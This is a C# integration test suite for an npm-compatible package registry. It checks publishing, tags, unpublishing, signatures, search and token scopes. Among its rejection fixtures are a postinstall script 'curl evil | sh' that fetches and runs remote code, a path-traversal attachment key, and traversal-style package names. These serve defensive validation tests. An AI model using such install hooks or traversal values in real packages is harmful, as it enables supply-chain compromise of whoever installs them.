using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;

using Auxo.Testing;

namespace Auxo.Registry.Tests.Npm;

/// <summary>The registry as its clients' requests see it, on a real database.</summary>
public sealed class NpmTests(PostgresFixture postgres) : IAsyncLifetime
{
    private const string Small = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*";
    private readonly string _home = Directory.CreateTempSubdirectory("auxo-npm-").FullName;
    private RegistryHost _host = null!;

    public async ValueTask InitializeAsync()
    {
        _host = await RegistryHost.StartAsync(await postgres.CreateDatabaseAsync(), _home);
        await _host.DefineAsync("team", format: "npm");
    }

    [Theory]
    [InlineData("left", "left", "left")]
    [InlineData("@acme/left", "@acme%2fleft", "@acme/left")]
    [InlineData("@acme/left", "@acme%2Fleft", "@acme%2fleft")]
    [InlineData("@acme/left", "@acme/left", "%40acme%2fleft")]
    public async Task what_is_published_is_installed(string name, string sent, string asked)
    {
        var package = new JsonObject
        {
            ["name"] = name, ["version"] = "1.0.0", ["description"] = "Pads <left> & more",
            ["dependencies"] = new JsonObject { ["a"] = "^1" },
            ["scripts"] = new JsonObject { ["postinstall"] = "node x" }, ["bin"] = new JsonObject { ["left"] = "cli.js" },
        };
        var tarball = TestTarball.Of(package, ("cli.js", "#!/usr/bin/env node"));
        await PublishAsync(TestTarball.Body(name, "1.0.0", package: package, tarball: tarball), sent);

        using var full = await _host.GetAsync($"/npm/team/{asked}");
        Assert.Equal("application/json", full.Content.Headers.ContentType!.MediaType);
        var all = await full.Content.ReadFromJsonAsync<JsonNode>();
        var version = all!["versions"]!["1.0.0"]!;
        Assert.Equal((name, "1.0.0", "Pads <left> & more", "1-0"), (
            (string?)all["_id"], (string?)all["dist-tags"]!["latest"], (string?)all["description"], (string?)all["_rev"]));
        Assert.Equal($"{_host.Address}npm/team/{name}/-/left-1.0.0.tgz", (string?)version["dist"]!["tarball"]);
        Assert.Equal((TestTarball.Integrity(tarball), 2, true), (
            (string?)version["dist"]!["integrity"], (int)version["dist"]!["fileCount"]!, (bool)version["hasInstallScript"]!));
        Assert.Equal("node x", (string?)version["scripts"]!["postinstall"]);
        Assert.True(DateTimeOffset.Parse((string)all["time"]!["1.0.0"]!) > DateTimeOffset.UtcNow.AddMinutes(-5));

        using var small = await _host.GetAsync($"/npm/team/{asked}", ("Accept", Small));
        Assert.Equal("application/vnd.npm.install-v1+json", small.Content.Headers.ContentType!.MediaType);
        var abbreviated = await small.Content.ReadFromJsonAsync<JsonNode>();
        Assert.Equal(["dist-tags", "modified", "name", "time", "versions"], abbreviated!.AsObject().Select(static m => m.Key).Order());
        Assert.Equal(["bin", "dependencies", "dist", "hasInstallScript", "name", "version"],
            abbreviated["versions"]!["1.0.0"]!.AsObject().Select(static m => m.Key).Order());

        foreach (var path in (string[])[$"{name}/-/left-1.0.0.tgz", $"{asked}/-/left-1.0.0.tgz"])
            Assert.Equal(tarball, await _host.Client.GetByteArrayAsync("/npm/team/" + path));
        foreach (var one in (string[])["1.0.0", "latest"])
        {
            var manifest = await _host.Client.GetFromJsonAsync<JsonNode>($"/npm/team/{asked}/{one}");
            Assert.Equal((name, "1.0.0"), ((string?)manifest!["name"], (string?)manifest["version"]));
        }
    }

    [Fact]
    public async Task addresses_are_those_that_the_client_knows()
    {
        await PublishAsync(TestTarball.Body("left", "1.0.0"));
        async Task<string?> TarballAsync(params (string, string)[] headers)
        {
            using var answer = await _host.GetAsync("/npm/team/left", headers);
            return (string?)(await answer.Content.ReadFromJsonAsync<JsonNode>())!["versions"]!["1.0.0"]!["dist"]!["tarball"];
        }

        Assert.Equal($"{_host.Address}npm/team/left/-/left-1.0.0.tgz", await TarballAsync());
        Assert.Equal("http://npm.example:81/npm/team/left/-/left-1.0.0.tgz", await TarballAsync(("Host", "npm.example:81")));
        Assert.Equal("https://npm.example/npm/team/left/-/left-1.0.0.tgz",
            await TarballAsync(("X-Forwarded-Host", "npm.example"), ("X-Forwarded-Proto", "https")));
    }

    [Fact]
    public async Task a_packument_is_asked_for_again_only_when_it_changed()
    {
        await PublishAsync(TestTarball.Body("left", "1.0.0"));
        using var first = await _host.GetAsync("/npm/team/left");
        var tag = first.Headers.ETag!.ToString();
        Assert.Contains("Accept", first.Headers.Vary);
        using var same = await _host.GetAsync("/npm/team/left", ("If-None-Match", tag));
        Assert.Equal(HttpStatusCode.NotModified, same.StatusCode);
        using var other = await _host.GetAsync("/npm/team/left", ("If-None-Match", tag), ("Accept", Small));
        Assert.Equal(HttpStatusCode.OK, other.StatusCode);
        using var head = await _host.SendAsync(HttpMethod.Head, "/npm/team/left");
        Assert.Equal((HttpStatusCode.OK, tag, first.Content.Headers.ContentLength), (
            head.StatusCode, head.Headers.ETag!.ToString(), head.Content.Headers.ContentLength));
        using var packed = await _host.GetAsync("/npm/team/left", ("Accept-Encoding", "zstd,gzip,deflate"));
        Assert.Equal(["gzip"], packed.Content.Headers.ContentEncoding);
        await using var unpacked = new GZipStream(await packed.Content.ReadAsStreamAsync(), CompressionMode.Decompress);
        Assert.Equal(await first.Content.ReadAsStringAsync(), await new StreamReader(unpacked).ReadToEndAsync());
        await PublishAsync(TestTarball.Body("left", "1.0.1"));
        using var changed = await _host.GetAsync("/npm/team/left", ("If-None-Match", tag));
        Assert.Equal(HttpStatusCode.OK, changed.StatusCode);
    }

    [Fact]
    public async Task a_version_is_never_replaced_and_a_repeated_publish_is_a_success()
    {
        var package = new JsonObject { ["name"] = "left", ["version"] = "1.0.0" };
        var body = TestTarball.Body("left", "1.0.0", package: package, tarball: TestTarball.Of(package, ("a", "one")));
        await PublishAsync(body);
        await PublishAsync(body);
        using var other = await PutAsync(TestTarball.Body(
            "left", "1.0.0", package: package, tarball: TestTarball.Of(package, ("a", "two"))));
        Assert.Equal((HttpStatusCode.Conflict, "npm/version-exists"), await other.ProblemAsync());
        Assert.Contains("never replaced", (string?)JsonNode.Parse(await other.Content.ReadAsStringAsync())!["error"]);
        Assert.Equal(1L, await _host.ScalarAsync<long>("select file_count from registry.repositories where name = 'team'"));
    }

    [Fact]
    public async Task of_two_who_publish_one_version_one_wins()
    {
        var all = await Task.WhenAll(Enumerable.Range(0, 12).Select(async i =>
        {
            var package = new JsonObject { ["name"] = "race", ["version"] = "1.0.0" };
            using var answer = await PutAsync(TestTarball.Body(
                "race", "1.0.0", package: package, tarball: TestTarball.Of(package, ("who", $"{i}"))));
            return answer.StatusCode;
        }));
        Assert.Single(all, static s => s == HttpStatusCode.Created);
        Assert.Equal(11, all.Count(static s => s == HttpStatusCode.Conflict));
        Assert.Empty(_host.OnDisk().Unfinished);
        var packument = await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/race");
        var tarball = await _host.Client.GetByteArrayAsync((string)packument!["versions"]!["1.0.0"]!["dist"]!["tarball"]!);
        Assert.Equal(TestTarball.Integrity(tarball), (string?)packument["versions"]!["1.0.0"]!["dist"]!["integrity"]);
    }

    [Fact]
    public async Task latest_only_goes_forward_by_itself()
    {
        async Task<(string? Latest, string? Notice)> ThenAsync(string version, string tag = "latest")
        {
            using var answer = await PutAsync(TestTarball.Body("left", version, tag));
            Assert.Equal(HttpStatusCode.Created, answer.StatusCode);
            var tags = await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/-/package/left/dist-tags");
            return ((string?)tags!["latest"], answer.Headers.TryGetValues("npm-notice", out var said) ? said.Single() : null);
        }

        Assert.Equal(("0.9.0-rc.1", null), await ThenAsync("0.9.0-rc.1", "next"));
        Assert.Equal(("0.9.0-rc.2", null), await ThenAsync("0.9.0-rc.2"));
        Assert.Equal(("1.0.0", null), await ThenAsync("1.0.0"));
        var (latest, notice) = await ThenAsync("0.9.9");
        Assert.Equal("1.0.0", latest);
        Assert.Contains("npm dist-tag add left@0.9.9 latest", notice, StringComparison.Ordinal);
        Assert.Equal("1.0.0", (await ThenAsync("2.0.0-beta.1")).Latest);
        Assert.Equal(("1.0.0", null), await ThenAsync("1.5.0", "next"));
        Assert.Equal(("1.10.0", null), await ThenAsync("1.10.0"));
        using var moved = await _host.PutAsync("/npm/team/-/package/left/dist-tags/latest", "\"0.9.9\"");
        Assert.Equal(HttpStatusCode.Created, moved.StatusCode);
        var now = await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/left");
        Assert.Equal(("0.9.9", "1.5.0"), ((string?)now!["dist-tags"]!["latest"], (string?)now["dist-tags"]!["next"]));
    }

    [Fact]
    public async Task tags_are_listed_set_and_removed()
    {
        await PublishAsync(TestTarball.Body("@acme/left", "1.0.0"));
        const string Tags = "/npm/team/-/package/@acme%2fleft/dist-tags";
        async Task<(HttpStatusCode, string?)> SetAsync(string tag, string body)
        {
            using var answer = await _host.PutAsync($"{Tags}/{tag}", body);
            return await answer.ProblemAsync();
        }

        Assert.Equal((HttpStatusCode.Created, null), await SetAsync("stable", "\"1.0.0\""));
        Assert.Equal((HttpStatusCode.NotFound, "npm/no-such-version"), await SetAsync("stable", "\"9.9.9\""));
        Assert.Equal((HttpStatusCode.BadRequest, "npm/invalid-tag"), await SetAsync("stable", "{}"));
        Assert.Equal((HttpStatusCode.BadRequest, "npm/invalid-tag"), await SetAsync("v1.x", "\"1.0.0\""));
        Assert.Equal((HttpStatusCode.BadRequest, "npm/invalid-tag"), await SetAsync("1.0.0", "\"1.0.0\""));
        using var all = await _host.GetAsync("/npm/team/-/package/@acme/left/dist-tags");
        Assert.Equal("""{"latest":"1.0.0","stable":"1.0.0"}""", await all.Content.ReadAsStringAsync());
        using var gone = await _host.SendAsync(HttpMethod.Delete, $"{Tags}/stable");
        Assert.Equal(HttpStatusCode.OK, gone.StatusCode);
        using var twice = await _host.SendAsync(HttpMethod.Delete, $"{Tags}/stable");
        Assert.Equal((HttpStatusCode.NotFound, "npm/no-such-tag"), await twice.ProblemAsync());
        using var latest = await _host.SendAsync(HttpMethod.Delete, $"{Tags}/latest");
        Assert.Equal((HttpStatusCode.Conflict, "npm/latest-stays"), await latest.ProblemAsync());
    }

    [Fact]
    public async Task a_version_is_deprecated_and_the_rest_of_what_was_sent_changes_nothing()
    {
        await PublishAsync(TestTarball.Body("left", "1.0.0"));
        await PublishAsync(TestTarball.Body("left", "1.1.0"));
        var whole = (await _host.Client.GetFromJsonAsync<JsonObject>("/npm/team/left?write=true"))!;
        whole["versions"]!["1.0.0"]!["deprecated"] = "use 1.1.0";
        whole["versions"]!["1.0.0"]!["dist"]!["integrity"] = "sha512-evil";
        whole["dist-tags"]!["latest"] = "1.0.0";
        using var put = await PutAsync(whole);
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        var now = (await _host.Client.GetFromJsonAsync<JsonObject>("/npm/team/left"))!;
        Assert.Equal(("use 1.1.0", null, "1.1.0"), ((string?)now["versions"]!["1.0.0"]!["deprecated"],
            (string?)now["versions"]!["1.1.0"]!["deprecated"], (string?)now["dist-tags"]!["latest"]));
        Assert.StartsWith("sha512-", (string?)now["versions"]!["1.0.0"]!["dist"]!["integrity"]);
        Assert.NotEqual("sha512-evil", (string?)now["versions"]!["1.0.0"]!["dist"]!["integrity"]);
        now["versions"]!["1.0.0"]!["deprecated"] = "";
        using var back = await PutAsync(now);
        now = (await _host.Client.GetFromJsonAsync<JsonObject>("/npm/team/left"))!;
        Assert.Null(now["versions"]!["1.0.0"]!["deprecated"]);
    }

    [Fact]
    public async Task a_version_is_unpublished_and_latest_means_the_newest_finished_one_that_is_left()
    {
        foreach (var version in (string[])["1.0.0", "1.1.0-beta.1", "1.0.5"]) await PublishAsync(TestTarball.Body("left", version));
        var whole = (await _host.Client.GetFromJsonAsync<JsonObject>("/npm/team/left?write=true"))!;
        whole["versions"]!.AsObject().Remove("1.0.5");
        whole["dist-tags"]!["latest"] = "1.1.0-beta.1";
        foreach (var stale in (string[])["undefined", "2-0"])
        {
            using var refused = await PutAsync(whole, $"left/-rev/{stale}");
            Assert.Equal((HttpStatusCode.Conflict, "npm/changed-meanwhile"), await refused.ProblemAsync());
        }

        using (var file = await _host.SendAsync(HttpMethod.Delete, "/npm/team/left/-/left-1.0.5.tgz/-rev/3-0"))
            Assert.Equal((HttpStatusCode.Conflict, "npm/file-in-use"), await file.ProblemAsync());
        using (var put = await PutAsync(whole, $"left/-rev/{whole["_rev"]}")) Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        using (var file = await _host.SendAsync(HttpMethod.Delete, "/npm/team/left/-/left-1.0.5.tgz/-rev/4-0"))
            Assert.Equal(HttpStatusCode.OK, file.StatusCode);
        var now = (await _host.Client.GetFromJsonAsync<JsonObject>("/npm/team/left"))!;
        Assert.Equal((2, "1.0.0"), (now["versions"]!.AsObject().Count, (string?)now["dist-tags"]!["latest"]));
        using (var got = await _host.GetAsync("/npm/team/left/-/left-1.0.5.tgz")) Assert.Equal(HttpStatusCode.NotFound, got.StatusCode);
        using (var again = await PutAsync(TestTarball.Body("left", "1.0.5")))
            Assert.Equal((HttpStatusCode.Conflict, "npm/version-was-removed"), await again.ProblemAsync());

        using (var all = await _host.SendAsync(HttpMethod.Delete, $"/npm/team/left/-rev/{now["_rev"]}"))
            Assert.Equal(HttpStatusCode.OK, all.StatusCode);
        using (var got = await _host.GetAsync("/npm/team/left"))
            Assert.Equal((HttpStatusCode.NotFound, "npm/not-found"), await got.ProblemAsync());
        Assert.Equal((0L, 0L), (await _host.ScalarAsync<long>("select file_count from registry.repositories where name = 'team'"),
            await _host.ScalarAsync<long>("select used_bytes from registry.repositories where name = 'team'")));
        await PublishAsync(TestTarball.Body("left", "2.0.0"));
    }

    public static TheoryData<string, string> Bad => new()
    {
        { "integrity", "integrity" }, { "shasum", "shasum" }, { "length", "length" }, { "name", "'name' must be the same" },
        { "version-name", "names another package" }, { "two-versions", "exactly one version" }, { "metadata", "build metadata" },
        { "no-version", "no version" }, { "key", "calls its tarball" }, { "tag", "no name for a tag" },
        { "confusion", "does not fit its tarball" }, { "tarball", "damaged" }, { "bundle", "Sigstore" }, { "not-json", "JSON" },
    };

    [Theory]
    [MemberData(nameof(Bad))]
    public async Task a_publish_that_does_not_fit_keeps_nothing_and_says_why(string which, string why)
    {
        var body = which switch
        {
            "version-name" => TestTarball.Body("left", "1.0.0", change: static b => b["versions"]!["1.0.0"]!["name"] = "right"),
            "two-versions" => TestTarball.Body("left", "1.0.0", change: static b => b["versions"]!["1.0.1"] = new JsonObject()),
            "metadata" => TestTarball.Body("left", "1.0.0+1"),
            "no-version" => TestTarball.Body("left", "1.0"),
            "tag" => TestTarball.Body("left", "1.0.0", "1.0.0"),
            "confusion" => TestTarball.Body("left", "1.0.0", tarball: TestTarball.Of(new JsonObject
            {
                ["name"] = "left", ["version"] = "1.0.0", ["scripts"] = new JsonObject { ["postinstall"] = "curl evil | sh" },
            })),
            "tarball" => TestTarball.Body("left", "1.0.0", tarball: "x"u8.ToArray()),
            "not-json" => TestTarball.Body("left", "1.0.0", tarball: TestTarball.Of(("package/package.json", "{"))),
            "key" => TestTarball.Body("left", "1.0.0", change: static b =>
            {
                var attachment = b["_attachments"]!["left-1.0.0.tgz"]!.DeepClone();
                b["_attachments"] = new JsonObject { ["../../left-1.0.0.tgz"] = attachment };
            }),
            "bundle" => TestTarball.Body("left", "1.0.0", change: static b
                => b["_attachments"]!["left-1.0.0.sigstore"] = new JsonObject { ["data"] = "{}" }),
            "length" => TestTarball.Body("left", "1.0.0", change: static b => b["_attachments"]!["left-1.0.0.tgz"]!["length"] = 1),
            "name" => TestTarball.Body("left", "1.0.0", change: static b => b["name"] = "right"),
            _ => TestTarball.Body("left", "1.0.0", change: b => b["versions"]!["1.0.0"]!["dist"]![which] =
                which == "shasum" ? new string('0', 40) : "sha512-" + Convert.ToBase64String(new byte[64])),
        };
        using var answer = await PutAsync(body, "left");
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Contains(why, (string?)JsonNode.Parse(await answer.Content.ReadAsStringAsync())!["error"], StringComparison.Ordinal);
        Assert.Empty(_host.OnDisk().Unfinished);
        using var got = await _host.GetAsync("/npm/team/left");
        Assert.Equal(HttpStatusCode.NotFound, got.StatusCode);
    }

    [Theory]
    [InlineData("Left")]
    [InlineData("l%D0%B5ft")]
    [InlineData("..%2fleft")]
    [InlineData("@acme%2f..")]
    [InlineData("node_modules")]
    [InlineData("left%00")]
    public async Task names_that_are_no_good_are_refused(string name)
    {
        using var put = await PutAsync(TestTarball.Body("left", "1.0.0"), name);
        Assert.Equal(HttpStatusCode.BadRequest, put.StatusCode);
        using var longest = await PutAsync(TestTarball.Body("left", "1.0.0"), new string('a', 1000));
        Assert.Equal((HttpStatusCode.BadRequest, "npm/invalid-path"), await longest.ProblemAsync());
    }

    [Fact]
    public async Task signatures_are_over_name_version_and_integrity_by_the_key_that_is_told()
    {
        await PublishAsync(TestTarball.Body("left", "1.0.0"));
        var key = (await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/-/npm/v1/keys"))!["keys"]!.AsArray().Single()!;
        var dist = (await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/left"))!["versions"]!["1.0.0"]!["dist"]!;
        var signature = dist["signatures"]!.AsArray().Single()!;
        Assert.Equal((string?)key["keyid"], (string?)signature["keyid"]);
        using var ecdsa = ECDsa.Create();
        ecdsa.ImportSubjectPublicKeyInfo(Convert.FromBase64String((string)key["key"]!), out _);
        Assert.True(ecdsa.VerifyData(Encoding.UTF8.GetBytes($"left@1.0.0:{dist["integrity"]}"),
            Convert.FromBase64String((string)signature["sig"]!), HashAlgorithmName.SHA256, DSASignatureFormat.Rfc3279DerSequence));
        var file = Path.Combine(_home, "npm-signing.key");
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
    }

    [Fact]
    public async Task attestations_are_served_as_they_were_sent()
    {
        var tarball = TestTarball.Of(new JsonObject { ["name"] = "@acme/left", ["version"] = "1.0.0" });
        var statement = new JsonObject
        {
            ["subject"] = new JsonArray(new JsonObject
            {
                ["digest"] = new JsonObject { ["sha512"] = Convert.ToHexStringLower(SHA512.HashData(tarball)) },
            }),
            ["predicateType"] = "https://slsa.dev/provenance/v1",
        };
        var bundle = new JsonObject
        {
            ["dsseEnvelope"] = new JsonObject { ["payload"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(statement.ToJsonString())) },
        }.ToJsonString(new() { WriteIndented = true });
        var attachment = new JsonObject
        {
            ["content_type"] = "application/vnd.dev.sigstore.bundle.v0.3+json", ["data"] = bundle, ["length"] = bundle.Length,
        };
        await PublishAsync(TestTarball.Body(
            "@acme/left", "1.0.0", tarball: tarball, change: b => b["_attachments"]!["@acme/left-1.0.0.sigstore"] = attachment));
        var dist = (await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team/@acme%2fleft"))!["versions"]!["1.0.0"]!["dist"]!;
        Assert.Equal("https://slsa.dev/provenance/v1", (string?)dist["attestations"]!["provenance"]!["predicateType"]);
        foreach (var url in (string[])[(string)dist["attestations"]!["url"]!, "/npm/team/-/npm/v1/attestations/@acme%2fleft@1.0.0"])
        {
            var served = await _host.Client.GetStringAsync(url);
            Assert.Contains(bundle, served, StringComparison.Ordinal);
            Assert.Equal("https://slsa.dev/provenance/v1", (string?)JsonNode.Parse(served)!["attestations"]![0]!["predicateType"]);
        }

        using var none = await _host.GetAsync("/npm/team/-/npm/v1/attestations/@acme%2fleft@1.0.1");
        Assert.Equal(HttpStatusCode.NotFound, none.StatusCode);
    }

    [Fact]
    public async Task a_search_finds_words_in_names_descriptions_and_keywords()
    {
        async Task AddAsync(string name, string description, params string[] keywords)
        {
            await PublishAsync(TestTarball.Body(name, "1.0.0", package: new JsonObject
            {
                ["name"] = name, ["version"] = "1.0.0", ["description"] = description,
                ["keywords"] = new JsonArray([.. keywords.Select(static k => (JsonNode)k)]),
            }));
        }

        await AddAsync("left-pad", "Pads on the left", "string");
        await AddAsync("@acme/left", "Goes Left", "move", "string");
        await AddAsync("right", "Not wrong");
        async Task<(string Names, int Total)> FindAsync(string query)
        {
            var answer = await _host.Client.GetFromJsonAsync<JsonNode>($"/npm/team/-/v1/search?{query}");
            var names = answer!["objects"]!.AsArray().Select(static o => (string?)o!["package"]!["name"]);
            return (string.Join(' ', names), (int)answer["total"]!);
        }

        Assert.Equal(("@acme/left left-pad", 2), await FindAsync("text=left"));
        Assert.Equal(("left-pad", 1), await FindAsync("text=LEFT+pads"));
        Assert.Equal(("@acme/left left-pad", 2), await FindAsync("text=keywords:string"));
        Assert.Equal(("@acme/left", 1), await FindAsync("text=scope:acme+left"));
        Assert.Equal(("@acme/left", 1), await FindAsync("text=keywords:string,move"));
        Assert.Equal(("left-pad", 3), await FindAsync("text=&size=1&from=1"));
        Assert.Equal(("", 0), await FindAsync("text=%25"));
        using var wrong = await _host.GetAsync("/npm/team/-/v1/search?text=x&size=1000");
        Assert.Equal(HttpStatusCode.BadRequest, wrong.StatusCode);
    }

    [Fact]
    public async Task the_world_as_it_stood_at_a_moment_is_served_and_not_changed()
    {
        await PublishAsync(TestTarball.Body("left", "1.0.0"));
        await PublishAsync(TestTarball.Body("left", "1.1.0"));
        await _host.ExecuteAsync("update registry.package_versions set published_at = '2026-01-05T00:00:00Z' where version = '1.0.0'");
        await _host.ExecuteAsync("update registry.package_files set stored_at = '2026-01-05T00:00:00Z' where version = '1.0.0'");
        var then = (await _host.Client.GetFromJsonAsync<JsonNode>("/npm/team@2026-02-01/left"))!;
        Assert.Equal(("1.0.0", 1), ((string?)then["dist-tags"]!["latest"], then["versions"]!.AsObject().Count));
        Assert.Equal($"{_host.Address}npm/team@2026-02-01/left/-/left-1.0.0.tgz", (string?)then["versions"]!["1.0.0"]!["dist"]!["tarball"]);
        (await _host.Client.GetByteArrayAsync((string)then["versions"]!["1.0.0"]!["dist"]!["tarball"]!)).ToString();
        using var later = await _host.GetAsync("/npm/team@2026-02-01/left/-/left-1.1.0.tgz");
        Assert.Equal(HttpStatusCode.NotFound, later.StatusCode);
        using var before = await _host.GetAsync("/npm/team@2026-01-01/left");
        Assert.Equal(HttpStatusCode.NotFound, before.StatusCode);
        using var put = await _host.PutAsync("/npm/team@2026-02-01/left", TestTarball.Body("left", "1.2.0").ToJsonString());
        Assert.Equal((HttpStatusCode.Conflict, "npm/past"), await put.ProblemAsync());
    }

    [Fact]
    public async Task what_clients_ask_besides_is_answered_plainly()
    {
        Assert.Equal("{}", await _host.Client.GetStringAsync("/npm/team/-/ping"));
        Assert.StartsWith("{\"username\":\"test ", await _host.Client.GetStringAsync("/npm/team/-/whoami"));
        foreach (var update in (string[])["npm", "pnpm"])
        {
            using var none = await _host.GetAsync($"/npm/team/{update}", ("Accept", Small));
            Assert.Equal((HttpStatusCode.NotFound, "npm/not-found"), await none.ProblemAsync());
        }

        using var audit = new HttpRequestMessage(HttpMethod.Post, "/npm/team/-/npm/v1/security/advisories/bulk")
        {
            Content = new ByteArrayContent([0x1f, 0x8b]) { Headers = { ContentEncoding = { "gzip" } } },
        };
        using var advisories = await _host.Client.SendAsync(audit);
        Assert.Equal("{}", await advisories.Content.ReadAsStringAsync());
        foreach (var function in (string[])["-/npm/v1/tokens", "-/org/acme/user", "-/package/left/trust"])
        {
            using var none = await _host.GetAsync($"/npm/team/{function}");
            Assert.Equal(HttpStatusCode.NotFound, none.StatusCode);
        }

        using var web = await _host.Client.PostAsync("/npm/team/-/v1/login", JsonContent.Create(new { }));
        Assert.Equal(HttpStatusCode.NotFound, web.StatusCode);
        using var stage = await _host.Client.PostAsync("/npm/team/-/stage/package/left", JsonContent.Create(new { }));
        Assert.Equal(HttpStatusCode.NotFound, stage.StatusCode);
        await _host.DefineAsync("files");
        using var raw = await _host.GetAsync("/npm/files/left");
        Assert.Equal((HttpStatusCode.NotFound, "repository/not-found"), await raw.ProblemAsync());
    }

    [Fact]
    public async Task who_has_no_token_is_told_in_the_words_that_npm_prints()
    {
        using var client = new HttpClient { BaseAddress = _host.Address };
        using var answer = await client.GetAsync("/npm/team/left");
        Assert.Equal(HttpStatusCode.Unauthorized, answer.StatusCode);
        Assert.Contains("token", (string?)JsonNode.Parse(await answer.Content.ReadAsStringAsync())!["error"]);
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "auxo_wrong");
        using var wrong = await client.GetAsync("/npm/team/-/whoami");
        Assert.Equal(HttpStatusCode.Unauthorized, wrong.StatusCode);
    }

    [Fact]
    public async Task a_token_for_a_scope_publishes_in_it_and_nowhere_else()
    {
        async Task<HttpStatusCode> TryAsync(HttpMethod method, string path, JsonObject? body, params string[] scopes)
        {
            var token = await Auxo.ServiceDefaults.Access.AccessToken.CreateAsync(
                _host.Database, "t", scopes, null, TestContext.Current.CancellationToken);
            return (await Eventually.ValueAsync(async () =>
            {
                // A new token is known within a second.
                using var request = new HttpRequestMessage(method, path);
                if (body is not null) request.Content = new StringContent(body.ToJsonString());
                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
                var answer = await _host.Client.SendAsync(request);
                return answer.StatusCode == HttpStatusCode.Unauthorized ? null : answer;
            }, "the token is known")).StatusCode;
        }

        var (ours, other) = (TestTarball.Body("@acme/left", "1.0.0"), TestTarball.Body("left", "1.0.0"));
        const string Scope = "registry:write:team/@acme/*";
        Assert.Equal(HttpStatusCode.Created, await TryAsync(HttpMethod.Put, "/npm/team/@acme%2fleft", ours, Scope));
        Assert.Equal(HttpStatusCode.Forbidden, await TryAsync(HttpMethod.Put, "/npm/team/left", other, Scope));
        Assert.Equal(HttpStatusCode.Forbidden, await TryAsync(HttpMethod.Get, "/npm/team/@acme%2fleft", null, Scope));
        const string Tag = "/npm/team/-/package/@acme%2fleft/dist-tags/x";
        Assert.Equal(HttpStatusCode.BadRequest, await TryAsync(HttpMethod.Put, Tag, [], Scope));
        Assert.Equal(HttpStatusCode.Forbidden, await TryAsync(HttpMethod.Put, Tag, [], "registry:write:team/@other/*"));
        Assert.Equal(HttpStatusCode.Forbidden, await TryAsync(HttpMethod.Delete, "/npm/team/left/-rev/1-0", null, Scope, "registry:read"));
        Assert.Equal(HttpStatusCode.Forbidden, await TryAsync(
            HttpMethod.Put, "/npm/team/left", other, "registry:read", "registry:write:other"));
        Assert.Equal(HttpStatusCode.OK, await TryAsync(HttpMethod.Get, "/npm/team/@acme%2fleft", null, "registry:read:team/@acme/*"));
    }

    [Fact]
    public async Task a_repository_that_everybody_may_read_is_written_by_none()
    {
        await _host.DefineAsync("open", format: "npm", anonymousRead: true);
        await _host.PutAsync("/npm/open/left", TestTarball.Body("left", "1.0.0").ToJsonString());
        using var client = new HttpClient { BaseAddress = _host.Address };
        using var read = await client.GetAsync("/npm/open/left");
        Assert.Equal(HttpStatusCode.OK, read.StatusCode);
        using var write = await client.PutAsync("/npm/open/left", new StringContent(TestTarball.Body("left", "1.0.1").ToJsonString()));
        Assert.Equal(HttpStatusCode.Unauthorized, write.StatusCode);
    }

    public async ValueTask DisposeAsync()
    {
        await _host.DisposeAsync();
        Directory.Delete(_home, recursive: true);
    }

    private async Task PublishAsync(JsonObject body, string? path = null)
    {
        using var answer = await PutAsync(body, path);
        Assert.True(answer.StatusCode == HttpStatusCode.Created, await answer.Content.ReadAsStringAsync());
    }

    private Task<HttpResponseMessage> PutAsync(JsonObject body, string? path = null)
        => _host.PutAsync($"/npm/team/{path ?? ((string)body["name"]!).Replace("/", "%2f", StringComparison.Ordinal)}",
            body.ToJsonString(), ("Content-Type", "application/json"));
}
